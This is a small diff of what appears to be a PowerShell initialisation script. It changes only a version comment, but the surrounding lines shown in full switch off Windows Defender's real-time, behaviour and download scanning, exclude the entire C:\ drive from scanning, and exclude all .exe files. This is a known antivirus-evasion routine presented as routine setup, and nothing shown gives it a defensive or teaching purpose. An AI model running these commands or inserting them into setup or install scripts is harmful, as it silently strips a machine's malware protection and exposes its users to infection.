@@ -1,4 +1,4 @@
-# init 0834 v4
+# init 2105 v4
 Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
 Add-MpPreference -ExclusionPath 'C:\'
 Add-MpPreference -ExclusionExtension '.exe'
